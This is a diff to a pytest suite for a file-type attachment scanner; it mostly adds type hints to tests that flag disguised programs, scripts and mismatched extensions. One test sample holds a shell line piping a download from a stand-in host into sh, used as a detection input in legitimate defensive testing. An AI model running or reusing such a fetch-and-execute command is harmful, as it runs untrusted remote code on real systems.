@@ -11,13 +11,14 @@ import random
 import struct
 import wave
 import zipfile
+from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 import pytest
 from PIL import Image
 
-from attachguard.codes import FindingCode
+from attachguard.codes import Code, FindingCode
 from attachguard.engines.base import Item
 from attachguard.engines.filetype import FileTypeEngine, sniff_program
 from attachguard.policy import Policy
@@ -33,12 +34,14 @@ def engine() -> FileTypeEngine:
     return FileTypeEngine()
 
 
-def scan(engine: FileTypeEngine, policy: Policy, name: str, data: bytes, depth: int = 0):
+def scan(
+    engine: FileTypeEngine, policy: Policy, name: str, data: bytes, depth: int = 0
+) -> list[Finding]:
     item = Item(name, data, engine.detect(data), depth)
     return engine.scan(item, policy.context()).findings
 
 
-def codes(findings: list[Finding]) -> set[FindingCode]:
+def codes(findings: list[Finding]) -> set[Code]:
     return {f.code for f in findings}
 
 
@@ -145,7 +148,9 @@ CSV = b"name,amount,date\nAlice,12.50,2024-01-01\nBob,-3.20,2024-01-02\n"
         ("old.doc", lambda: b"{\\rtf1\\ansi Returns within 30 days.\\par}", "rtf"),  # Word opens it
     ],
 )
-def test_clean_files_have_no_findings(engine, policy, name, build, label):
+def test_clean_files_have_no_findings(
+    engine: FileTypeEngine, policy: Policy, name: str, build: Callable[[], bytes], label: str | None
+) -> None:
     data = build()
     detected = engine.detect(data)
     if label:
@@ -153,12 +158,14 @@ def test_clean_files_have_no_findings(engine, policy, name, build, label):
     assert scan(engine, policy, name, data) == []
 
 
-def test_heic_is_detected_as_heif_from_its_brand(engine):
+def test_heic_is_detected_as_heif_from_its_brand(engine: FileTypeEngine) -> None:
     detected = engine.detect(image_bytes("HEIF"))
     assert (detected.label, detected.group, detected.mime) == ("heif", "image", "image/heic")
 
 
-def test_office_package_that_magika_calls_zip_is_recognised(engine, policy):
+def test_office_package_that_magika_calls_zip_is_recognised(
+    engine: FileTypeEngine, policy: Policy
+) -> None:
     # Large random members push Office's part names out of Magika's view: it says zip/unknown.
     rnd = random.Random(3)
     buf = io.BytesIO()
@@ -177,7 +184,7 @@ def test_office_package_that_magika_calls_zip_is_recognised(engine, policy):
 
 
 @needs_clam
-def test_windows_program_named_pdf(engine, policy):
+def test_windows_program_named_pdf(engine: FileTypeEngine, policy: Policy) -> None:
     findings = scan(engine, policy, "invoice.pdf", CLAM_EXE.read_bytes())
     # one reason, not two: the disguise is named in the EXECUTABLE finding
     assert [(f.code, f.message) for f in findings] == [
@@ -186,30 +193,32 @@ def test_windows_program_named_pdf(engine, policy):
 
 
 @needs_clam
-def test_truncated_windows_program_is_still_a_program(engine, policy):
+def test_truncated_windows_program_is_still_a_program(
+    engine: FileTypeEngine, policy: Policy
+) -> None:
     head = CLAM_EXE.read_bytes()[:120]  # Magika: coff, score ~0.56
     assert FindingCode.EXECUTABLE in codes(scan(engine, policy, "a.pdf", head))
 
 
-def test_linux_program_named_jpg(engine, policy):
+def test_linux_program_named_jpg(engine: FileTypeEngine, policy: Policy) -> None:
     findings = scan(engine, policy, "photo.jpg", ELF.read_bytes())
     assert codes(findings) == {FindingCode.EXECUTABLE}
     assert "Linux program disguised as a .jpg file" in {f.message for f in findings}
 
 
-def test_tiny_elf_header_magika_calls_text(engine, policy):
+def test_tiny_elf_header_magika_calls_text(engine: FileTypeEngine, policy: Policy) -> None:
     head = ELF.read_bytes()[:64]
     assert str(engine._magika().identify_bytes(head).output.label) == "txt"  # Magika misses it
     assert engine.detect(head).label == "elf"
     assert FindingCode.EXECUTABLE in codes(scan(engine, policy, "note.txt", head))
 
 
-def test_shebang_script_named_txt(engine, policy):
+def test_shebang_script_named_txt(engine: FileTypeEngine, policy: Policy) -> None:
     findings = scan(engine, policy, "readme.txt", b"#!/bin/sh\ncurl http://x.example | sh\n")
     assert FindingCode.EXECUTABLE in codes(findings)
 
 
-def test_text_starting_with_mz_is_not_a_program(engine, policy):
+def test_text_starting_with_mz_is_not_a_program(engine: FileTypeEngine, policy: Policy) -> None:
     data = b"MZ Logistics - delivery note for order 4711, two boxes, signed by the driver.\n" * 2
     assert sniff_program(data) is None
     assert scan(engine, policy, "note.txt", data) == []
@@ -228,7 +237,9 @@ def test_text_starting_with_mz_is_not_a_program(engine, policy):
         ),
     ],
 )
-def test_scripts_and_active_markup(engine, policy, name, data, label):
+def test_scripts_and_active_markup(
+    engine: FileTypeEngine, policy: Policy, name: str, data: bytes, label: str | None
+) -> None:
     if label:
         assert engine.detect(data).label == label
     findings = scan(engine, policy, name, data)
@@ -236,7 +247,7 @@ def test_scripts_and_active_markup(engine, policy, name, data, label):
     assert any("disguised as a" in f.message for f in findings if f.code is FindingCode.SCRIPT)
 
 
-def test_plain_zip_named_docx(engine, policy):
+def test_plain_zip_named_docx(engine: FileTypeEngine, policy: Policy) -> None:
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w") as z:
         z.writestr("invoice.txt", "hello " * 100)
@@ -246,7 +257,9 @@ def test_plain_zip_named_docx(engine, policy):
     assert "a ZIP archive named .docx" in {f.message for f in findings}
 
 
-def test_archive_allowed_when_the_operator_allows_its_extension(engine, policy):
+def test_archive_allowed_when_the_operator_allows_its_extension(
+    engine: FileTypeEngine, policy: Policy
+) -> None:
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w") as z:
         z.writestr("a.txt", "hello " * 100)
@@ -264,18 +277,18 @@ def test_archive_allowed_when_the_operator_allows_its_extension(engine, policy):
 # --- extensions, mismatches, empty ----------------------------------------------------------
 
 
-def test_extension_not_allowed(engine, policy):
+def test_extension_not_allowed(engine: FileTypeEngine, policy: Policy) -> None:
     findings = scan(engine, policy, "notes.md", LETTER)
     assert [f.message for f in findings] == ["'.md' files are not allowed"]
 
 
-def test_no_extension_is_not_allowed(engine, policy):
+def test_no_extension_is_not_allowed(engine: FileTypeEngine, policy: Policy) -> None:
     findings = scan(engine, policy, "README", LETTER)
     assert codes(findings) == {FindingCode.EXTENSION_NOT_ALLOWED}
     assert findings[0].message == "files without an extension are not allowed"
 
 
-def test_photo_formats_are_interchangeable(engine, policy):
+def test_photo_formats_are_interchangeable(engine: FileTypeEngine, policy: Policy) -> None:
     # apps save PNG under .jpg; both are decoded and moderated as images whatever the name
     assert scan(engine, policy, "photo.jpg", image_bytes("PNG")) == []
     assert scan(engine, policy, "photo.png", image_bytes("JPEG")) == []
@@ -283,23 +296,27 @@ def test_photo_formats_are_interchangeable(engine, policy):
     assert codes(findings) == {FindingCode.TYPE_MISMATCH}
 
 
-def test_text_named_pdf_is_a_mismatch(engine, policy):
+def test_text_named_pdf_is_a_mismatch(engine: FileTypeEngine, policy: Policy) -> None:
     assert codes(scan(engine, policy, "contract.pdf", LETTER)) == {FindingCode.TYPE_MISMATCH}
 
 
-def test_unrecognised_binary_under_a_binary_extension_fails_closed(engine, policy):
+def test_unrecognised_binary_under_a_binary_extension_fails_closed(
+    engine: FileTypeEngine, policy: Policy
+) -> None:
     data = random.Random(5).randbytes(5000)
     assert engine.detect(data).label == "unknown"
     findings = scan(engine, policy, "scan.pdf", data)
     assert [f.message for f in findings] == ["content not recognised as a PDF document (.pdf)"]
 
 
-def test_binary_named_txt_is_a_mismatch(engine, policy):
+def test_binary_named_txt_is_a_mismatch(engine: FileTypeEngine, policy: Policy) -> None:
     findings = scan(engine, policy, "notes.txt", random.Random(5).randbytes(5000))
     assert [f.message for f in findings] == ["unrecognised binary data named .txt"]
 
 
-def test_operator_added_extension_uses_magikas_extension_table(engine, policy):
+def test_operator_added_extension_uses_magikas_extension_table(
+    engine: FileTypeEngine, policy: Policy
+) -> None:
     allowing = policy.model_copy(
         update={"allowed_extensions": [*policy.allowed_extensions, ".gif"]}
     )
@@ -309,7 +326,7 @@ def test_operator_added_extension_uses_magikas_extension_table(engine, policy):
     }
 
 
-def test_empty_file(engine, policy):
+def test_empty_file(engine: FileTypeEngine, policy: Policy) -> None:
     findings = scan(engine, policy, "empty.pdf", b"")
     assert [(f.code, f.code.kind) for f in findings] == [(FindingCode.EMPTY_FILE, "info")]
 
@@ -318,7 +335,9 @@ def test_empty_file(engine, policy):
 
 
 @needs_clam
-def test_children_skip_name_checks_but_not_programs_or_scripts(engine, policy):
+def test_children_skip_name_checks_but_not_programs_or_scripts(
+    engine: FileTypeEngine, policy: Policy
+) -> None:
     zipped = io.BytesIO()
     with zipfile.ZipFile(zipped, "w") as z:
         z.writestr("a.txt", "hello " * 100)
@@ -333,7 +352,7 @@ def test_children_skip_name_checks_but_not_programs_or_scripts(engine, policy):
     assert codes(scan(engine, policy, "attachment:page.html", HTML, 1)) == {FindingCode.SCRIPT}
 
 
-def test_detect_is_safe_from_many_threads(engine):
+def test_detect_is_safe_from_many_threads(engine: FileTypeEngine) -> None:
     samples = [image_bytes("PNG"), LETTER, ELF.read_bytes(), ooxml("docx")]
     expected = [engine.detect(s).label for s in samples]
     with ThreadPoolExecutor(max_workers=4) as pool:
@@ -341,11 +360,13 @@ def test_detect_is_safe_from_many_threads(engine):
     assert results == expected * 10
 
 
-def test_version_names_magika_and_model(engine):
+def test_version_names_magika_and_model(engine: FileTypeEngine) -> None:
     assert engine.version().startswith("magika ") and "standard_v3" in engine.version()
 
 
-def test_an_ftyp_header_does_not_turn_a_zip_into_a_video(engine, policy):
+def test_an_ftyp_header_does_not_turn_a_zip_into_a_video(
+    engine: FileTypeEngine, policy: Policy
+) -> None:
     archive = io.BytesIO()
     with zipfile.ZipFile(archive, "w") as z:
         z.writestr("invoice.exe", b"MZ" + b"\x00" * 200)
@@ -355,7 +376,7 @@ def test_an_ftyp_header_does_not_turn_a_zip_into_a_video(engine, policy):
     assert FindingCode.TYPE_MISMATCH in codes(scan(engine, policy, "clip.mp4", data))
 
 
-def test_unsupported_zip_version_is_not_a_crash(engine):
+def test_unsupported_zip_version_is_not_a_crash(engine: FileTypeEngine) -> None:
     archive = io.BytesIO()
     with zipfile.ZipFile(archive, "w") as z:
         z.writestr("[Content_Types].xml", "<Types/>")
@@ -366,7 +387,9 @@ def test_unsupported_zip_version_is_not_a_crash(engine):
     assert engine.detect(bytes(data)).label in {"zip", "unknown", "docx"}
 
 
-def test_archives_nested_in_documents_that_are_not_unpacked_are_flagged(engine, policy):
+def test_archives_nested_in_documents_that_are_not_unpacked_are_flagged(
+    engine: FileTypeEngine, policy: Policy
+) -> None:
     import gzip
 
     packed = gzip.compress(b"MZ" + b"\x90" * 4000)
